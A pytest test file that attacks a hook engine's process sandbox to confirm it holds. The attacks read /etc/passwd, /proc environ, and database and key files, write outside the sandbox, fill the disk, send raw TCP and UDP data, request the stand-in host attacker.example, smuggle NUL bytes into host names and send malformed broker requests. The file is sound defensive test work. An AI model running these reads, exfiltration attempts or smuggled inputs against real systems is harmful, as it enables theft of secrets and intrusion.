"""The kernel jail, attack by attack: each one through the whole engine (a hook, stopped by the
first layer that sees it) and as raw Python under the process layer alone (`jailed`: no
language layer, no Python-level egress guard), where the file-system and network jails must
stop it on their own. With `jail=False` the same raw code shows what the jail adds.
"""

from __future__ import annotations

import errno
import os
import time
import uuid

import pytest

from attacklib import hook, limits_with, refused
from hookengine.sandbox.egress import EgressPolicy

TWILIO_ONLY = EgressPolicy.for_hook(["twilio"], [], {})


@pytest.fixture
def host_tree(world_dir):
    """World-readable host files a hook's uid alone could read: an engine data directory's
    database and key, a checkout file, and a world-writable directory."""
    data = world_dir / "data"
    data.mkdir(mode=0o755)
    (data / "hookengine.sqlite3").write_text("DATABASE-MARKER")
    (data / "secret.key").write_text("KEY-MARKER")
    for path in (data / "hookengine.sqlite3", data / "secret.key"):
        os.chmod(path, 0o644)
    writable = world_dir / "drop"
    writable.mkdir()
    os.chmod(writable, 0o777)
    return world_dir


READS = {
    "passwd": "/etc/passwd",
    "data directory": "{world}/data/hookengine.sqlite3",
    "key file": "{world}/data/secret.key",
    "host sockets": "/proc/net/tcp",
    "other processes": "/proc/1/environ",
    "kernel settings": "/sys/kernel/mm/transparent_hugepage/enabled",
    "checkout": os.path.abspath(__file__),
}


@pytest.mark.parametrize("what", sorted(READS))
def test_host_files_are_not_readable(run, jailed, host_tree, what):
    path = READS[what].format(world=host_tree)
    refused(run(hook(f"return open({path!r}).read()")))
    answer = jailed(f"result = open({path!r}).read()")
    assert answer.get("error") in ("FileNotFoundError", "PermissionError"), answer


def test_world_readable_host_files_fall_to_the_jail_alone(jailed, host_tree):
    """The control: without the jail the hook's uid reads the world-readable data file."""
    path = f"{host_tree}/data/hookengine.sqlite3"
    assert jailed(f"result = open({path!r}).read()", jail=False) == {"result": "DATABASE-MARKER"}
    assert jailed(f"result = open({path!r}).read()").get("error") == "FileNotFoundError"


@pytest.mark.parametrize("jail, written", [(False, True), (True, False)])
def test_writes_outside_the_working_directory(run, jailed, host_tree, jail, written):
    target = host_tree / "drop" / "planted.py"
    refused(run(hook(f"open({str(target)!r}, 'w').write('x')")))
    answer = jailed(f"open({str(target)!r}, 'w').write('planted')\nresult = 'written'",
                    jail=jail)
    assert target.exists() == written, answer


def test_the_working_directory_is_writable_and_private(jailed):
    answer = jailed('''
import os
open("note.txt", "w").write("mine")
result = [os.getcwd(), open("note.txt").read(), os.environ["TMPDIR"]]
''')
    assert answer == {"result": ["/hook", "mine", "/hook"]}, answer


def test_filling_the_disk_stops_at_the_quota(jailed):
    """RLIMIT_FSIZE bounds one file; the tmpfs bounds them all (HOOKENGINE_DISK_BYTES)."""
    answer = jailed('''
import errno
written = 0
try:
    for n in range(10000):
        with open(f"fill-{n}", "wb") as f:
            for _ in range(4):
                f.write(b"x" * 250000)
                written += 250000
except OSError as error:
    result = [error.errno, written]
''', limits=limits_with(timeout_seconds=10, cpu_seconds=5, memory_mb=128))
    code, written = answer["result"]
    assert code in (errno.ENOSPC, errno.EFBIG), answer
    assert written <= 9 * 1024 * 1024


def test_another_runs_files_are_not_there(jailed):
    first = jailed("open('/hook/left.txt', 'w').write('x')\nresult = 'written'", slot=5)
    assert first == {"result": "written"}
    second = jailed("import os\nresult = os.listdir('/hook')", slot=6)
    assert second == {"result": []}


def test_the_jail_root_is_read_only(jailed):
    answer = jailed("import os\nos.mkdir('/planted')")
    assert answer.get("errno") in (errno.EROFS, errno.EACCES, errno.EPERM), answer


# -- the network

def connect_code(address: str, port: int, kind: str = "SOCK_STREAM") -> str:
    return f'''
import _socket
s = _socket.socket(_socket.AF_INET, _socket.{kind})
s.settimeout(2)
s.connect(({address!r}, {port}))
result = "connected"
'''


def test_raw_connect_to_loopback(run, jailed, listener):
    refused(run(hook(f"import socket\nsocket.create_connection(('127.0.0.1', {listener.port}))",
                     "")))
    answer = jailed(connect_code("127.0.0.1", listener.port))
    assert answer.get("error") in ("OSError", "PermissionError"), answer
    time.sleep(0.2)
    assert listener.received == []


def test_raw_connect_to_loopback_succeeds_without_the_jail(jailed, listener):
    """The control: the other layers alone let raw Python connect (the hole the jail closes)."""
    answer = jailed(connect_code("127.0.0.1", listener.port), jail=False)
    assert answer == {"result": "connected"}


def test_raw_connect_to_a_public_address(jailed, listener):
    """Tried only once loopback has been shown unreachable (no route out of the namespace,
    or Landlock's no-connect rule), so a broken jail sends nothing off this machine."""
    answer = jailed(connect_code("127.0.0.1", listener.port) + '''
''' if False else f'''
import _socket, errno
s = _socket.socket()
s.settimeout(2)
try:
    s.connect(("127.0.0.1", {listener.port}))
    result = "loopback reached"
except OSError:
    t = _socket.socket()
    t.settimeout(2)
    try:
        t.connect(("192.0.2.1", 443))
        result = "public address reached"
    except OSError as error:
        result = ["refused", error.errno]
''')
    assert answer.get("result", [None])[0] == "refused", answer
    assert answer["result"][1] in (errno.ENETUNREACH, errno.EACCES, errno.EPERM)


@pytest.mark.parametrize("code", [
    "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
    "s.sendto(b'exfiltrated', ('127.0.0.1', {port}))",
    "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
    "s.sendmsg([b'exfiltrated'], [], 0, ('127.0.0.1', {port}))",
    "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('127.0.0.1', {port}))\n"
    "s.send(b'exfiltrated')",
])
def test_datagrams(run, jailed, udp_listener, code):
    refused(run(hook("import socket\n" + code.format(port=udp_listener.port))))
    answer = jailed("import socket\n" + code.format(port=udp_listener.port))
    assert answer.get("error") in ("OSError", "PermissionError"), answer
    time.sleep(0.2)
    assert udp_listener.received == []


def test_unix_sockets_reach_no_host_daemon(jailed, sandbox):
    answer = jailed(f'''
import socket
s = socket.socket(socket.AF_UNIX)
s.connect({sandbox.socket_path!r})
''')
    assert answer.get("error") == "PermissionError", answer


def test_a_name_off_the_allowlist_is_never_resolved(run, jailed):
    refused(run(hook("return requests.get('http://attacker.example/', timeout=2).text",
                     "import requests")), "allowlist")
    # Raw: no resolver can be reached from the empty namespace...
    answer = jailed("import socket\nresult = socket.getaddrinfo('attacker.example', 443)")
    assert answer.get("error") == "gaierror", answer
    # ...and the broker refuses the name before any lookup.
    answer = jailed("result = broker.getaddrinfo('attacker.example', 443)", egress=TWILIO_ONLY)
    assert answer.get("error") == "EgressDenied" and "allowlist" in answer["message"], answer


@pytest.mark.parametrize("name", ["localhost\x00.twilio.com", "127.0.0.1\x00.twilio.com",
                                  "localhost .twilio.com", "localhost%00.twilio.com"])
def test_a_name_with_a_nul_or_junk_is_refused_by_both_checks(run, jailed, listener, name):
    url = f"http://{name}:{listener.port}/"
    refused(run(hook(f"return requests.get({url!r}, timeout=2).text", "import requests")))
    answer = jailed(f"result = broker.getaddrinfo({name!r}, 443)", egress=TWILIO_ONLY)
    assert answer.get("error") == "EgressDenied", answer
    assert "not a valid host name" in answer["message"]
    time.sleep(0.2)
    assert listener.received == []


def test_the_broker_connects_nowhere_it_did_not_resolve(jailed, listener):
    """An escaped hook speaking the broker's protocol itself gets what the policy allows."""
    answer = jailed(f'''
import socket
s = socket.socket()
broker.connect(s, ("127.0.0.1", {listener.port}))
result = "connected"
''', egress=TWILIO_ONLY)
    assert answer.get("error") == "EgressDenied", answer
    time.sleep(0.2)
    assert listener.received == []


def test_the_broker_connects_a_host_map_target(jailed, listener):
    """The control: the mapped target itself is reachable, through the broker only."""
    policy = EgressPolicy(("api.twilio.com",), (),
                          {"api.twilio.com": f"http://127.0.0.1:{listener.port}"})
    answer = jailed(f'''
import socket
s = socket.socket()
s.settimeout(2)
s.connect(("127.0.0.1", {listener.port}))
s.sendall(b"hello")
result = "connected"
''', egress=policy)
    assert answer == {"result": "connected"}, answer


# -- identity

def test_a_uid_is_not_reused_by_the_next_run(sandbox):
    """Each run takes a spare with a uid no earlier run had: seen from outside, in /proc, the
    zygote's children carry a new uid after every run (a stack would hand back the last)."""
    from attacklib import BENIGN, make_job

    seen = set()
    for _ in range(5):
        assert sandbox.execute(make_job(BENIGN)).status == "success"
        time.sleep(0.2)  # the zygote forks the next spare
        seen |= _child_uids(sandbox.process.pid)
    assert len(seen) >= 5 + 1, seen


def _child_uids(parent: int) -> set[int]:
    uids = set()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/stat") as stat:
                ppid = int(stat.read().rsplit(")", 1)[1].split()[1])
            uid = os.stat(f"/proc/{pid}").st_uid
        except (OSError, ValueError, IndexError):
            continue
        if ppid == parent:
            uids.add(uid)
    return uids


def test_host_identifiers_reveal_nothing(run, jailed):
    host_node = uuid.getnode()
    result = run(hook("return [uuid.getnode(), uuid.uuid1().node]", "import uuid"))
    # The language layer refuses getnode; whatever it lets through tells nothing of the host.
    assert str(host_node) not in repr(result.result) + repr(result.error)
    answer = jailed("import uuid, socket\nresult = [uuid.getnode(), socket.gethostname()]")
    assert answer["result"][0] != host_node
    assert answer["result"][1] == "hook"


BROKER_ABUSE = [
    b"not json",
    b"\xff\xfe",
    b"[1, 2]",
    b'{"op": "connect"}',
    b'{"op": "connect", "family": "x", "address": ["127.0.0.1", 1]}',
    b'{"op": "connect", "family": 1, "address": ["/run/zygote.sock", 0]}',
    b'{"op": "connect", "family": 2, "address": ["127.0.0.1"], "timeout": -1}',
    b'{"op": "connect", "family": 2, "address": ["127.0.0.1", "80"]}',
    b'{"op": "resolve", "host": {"a": 1}, "port": 443, "family": 0}',
    b'{"op": "resolve", "host": "api.twilio.com", "port": 99999999, "family": 0}',
    b'{"op": "shell", "command": "id"}',
    b"x" * 70000,
]


@pytest.mark.parametrize("message", BROKER_ABUSE, ids=lambda m: repr(m[:40]))
def test_the_broker_survives_malformed_requests(jailed, listener, message):
    """An escaped hook writing junk to its broker channel gets an error or a closed channel;
    nothing connects, and the broker still serves the next run."""
    answer = jailed(f'''
import socket
try:
    broker.sock.send({message!r})
    result = broker.sock.recv(65536)
except OSError as error:
    result = "closed: " + type(error).__name__
''', egress=TWILIO_ONLY)
    assert '"ok"' not in str(answer.get("result", "")), answer
    assert listener.received == []
    policy = EgressPolicy(("api.twilio.com",), (),
                          {"api.twilio.com": f"http://127.0.0.1:{listener.port}"})
    after = jailed(f'''
import socket
s = socket.socket()
broker.connect(s, ("127.0.0.1", {listener.port}))
result = "connected"
''', egress=policy)
    assert after == {"result": "connected"}, after


def test_an_environment_reads_its_own_packages_and_no_other(jailed, world_dir):
    """An environment's zygote lets its hooks read that environment's directory; another
    environment under the same parent stays out of the jail."""
    sites = []
    for name in ("env1", "env2"):
        site = world_dir / "envs" / name / "hookdemo"
        site.mkdir(parents=True)
        (site / "__init__.py").write_text(f"VERSION = {name!r}\n")
        for path in (site.parent.parent, site.parent, site):
            os.chmod(path, 0o755)
        os.chmod(site / "__init__.py", 0o644)
        sites.append(site.parent)
    read = "result = open({!r}).read()"
    own, other = (str(s / "hookdemo" / "__init__.py") for s in sites)
    assert jailed(read.format(own), site=str(sites[0])) == {"result": "VERSION = 'env1'\n"}
    assert jailed(read.format(own)).get("error") == "FileNotFoundError"  # no site: not there
    answer = jailed(read.format(other), site=str(sites[0]))
    assert answer.get("error") in ("FileNotFoundError", "PermissionError"), answer
    # The control: without the jail the hook's uid reads the other environment.
    assert jailed(read.format(other), site=str(sites[0]), jail=False) == {
        "result": "VERSION = 'env2'\n"}
